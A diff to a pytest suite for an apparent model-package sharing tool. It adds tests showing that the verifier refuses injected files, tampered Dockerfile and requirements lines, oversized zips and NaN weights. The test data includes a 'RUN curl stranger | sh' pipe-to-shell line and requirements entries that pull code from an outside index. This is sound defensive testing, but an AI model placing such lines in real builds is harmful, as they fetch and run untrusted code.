@@ -8,13 +8,14 @@ import shutil
 import tempfile
 import zipfile
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 import torch
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from nnunet_transformers.sharing import load_package, verify
+from nnunet_transformers.sharing import load_package, trained, verify
 from nnunet_transformers.sharing.manifest import MAX_MANIFEST_BYTES, NAME, write_manifest
 from nnunet_transformers.sharing.weights_file import load_weights, save_weights
 from nnunet_transformers.weights.nnunet_checkpoint import read_checkpoint
@@ -142,6 +143,57 @@ class TestHostileContent:
     @pytest.mark.parametrize(
         "name",
         [
+            "typer.py",  # which the entry point would import in place of the library
+            "nnunet_transformers/__init__.py",
+            "sitecustomize.py",
+            "setup.cfg",
+            "models/predict.py",
+            f"models/{MODEL}/fold_0.pth",
+            f"models/{MODEL}/deeper/plans.json",
+            "wheels/torch.tar.gz",
+            "wheels/deeper/a-1-py3-none-any.whl",
+        ],
+    )
+    def test_more_files(self, copied, name):
+        (copied / name).parent.mkdir(exist_ok=True, parents=True)
+        (copied / name).write_text("")
+        (copied / NAME).unlink()
+        write_manifest(copied)
+        for check in (verify, lambda folder: load_package(folder, CPU)):
+            with pytest.raises(ValueError, match=f"holds '{name}', a file that no package has"):
+                check(copied)
+
+    @pytest.mark.parametrize(
+        ("name", "line"),
+        [
+            ("predict.py", "import os"),
+            ("Dockerfile", "RUN curl stranger | sh"),
+            ("requirements.txt", "--extra-index-url https://stranger/simple"),
+            ("requirements.txt", "torch @ https://stranger/torch.whl"),
+            ("requirements.txt", "-e ."),
+            ("requirements.txt", "-r more.txt"),
+            ("requirements.txt", "--find-links elsewhere"),
+            ("requirements.txt", "numpy"),
+        ],
+    )
+    def test_code(self, copied, name, line):
+        (copied / name).write_text((copied / name).read_text() + f"{line}\n")
+        (copied / NAME).unlink()
+        write_manifest(copied)
+        with pytest.raises(ValueError, match=f"{name} is not as `package make` writes it"):
+            verify(copied)
+
+    def test_wheels_are_named(self, copied):
+        (copied / "wheels").mkdir()
+        (copied / "wheels" / "torch-9.9-py3-none-any.whl").write_bytes(b"")
+        (copied / NAME).unlink()
+        write_manifest(copied)
+        said = invoke("package", "verify", copied).output
+        assert "installs code of the package's maker: wheels/torch-9.9-py3-none-any.whl" in said
+
+    @pytest.mark.parametrize(
+        "name",
+        [
             "subprocess.Popen",
             "nnunet_transformers.architectures.qt_unet.torch.hub.load",
             "nnunet_transformers.architectures.qt_unet.nn.Sequential",
@@ -154,7 +206,7 @@ class TestHostileContent:
             plans["configurations"]["3d_fullres"]["architecture"]["network_class_name"] = name
 
         rewrite(copied, PLANS_FILE, change)
-        with pytest.raises(ValueError, match=f"names {name!r} as network, which is not loaded"):
+        with pytest.raises(ValueError, match=f"names {name!r} as network, which is part of neither"):
             load_package(copied, CPU)
 
     def test_layer(self, copied):
@@ -296,3 +348,30 @@ class TestTrust:
         with pytest.raises(ValueError, match=f"is truncated or not a zip .*{said}"):
             invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
         assert not (tmp_path / "package").exists()
+
+    def test_zip_that_claims_more(self, tmp_path, monkeypatch):
+        with zipfile.ZipFile(tmp_path / "model.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("m/checkpoint_final.pth", bytes(30_000_000))
+        with pytest.raises(ValueError, match=r"claims 1 files of 0\.0 GB in 0\.000 GB, which no model has; refused"):
+            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
+        monkeypatch.setattr(trained, "MAX_EXPANSION", 100)
+        monkeypatch.setattr(trained.shutil, "disk_usage", lambda _: SimpleNamespace(free=10_000_000))
+        with pytest.raises(ValueError, match=r"unpacks to 0\.0 GB, 0\.0 GB are free in .*; free some space"):
+            invoke("package", "--from-zip", tmp_path / "model.zip", "-o", tmp_path / "package")
+        assert not (tmp_path / "package").exists()
+
+    def test_weights_that_diverged(self, model, tmp_path):
+        folder = Path(shutil.copytree(model, tmp_path / MODEL))
+        path = folder / "fold_1" / "checkpoint_final.pth"
+        content, _ = read_checkpoint(path)
+        next(iter(content["network_weights"].values())).fill_(torch.nan)
+        torch.save(content, path)
+        with pytest.raises(ValueError, match=r"fold_1/checkpoint_final\.pth is damaged, or .* diverged: "):
+            invoke("package", folder, "-o", tmp_path / "package")
+        assert not (tmp_path / "package").exists()
+
+
+def test_package_weights_with_nan(tmp_path):
+    save_weights({"a": torch.tensor([1.0, torch.inf])}, tmp_path / "w.safetensors")
+    with pytest.raises(ValueError, match=r"w\.safetensors is damaged, or .*: a holds NaN or infinity"):
+        load_weights(tmp_path / "w.safetensors")
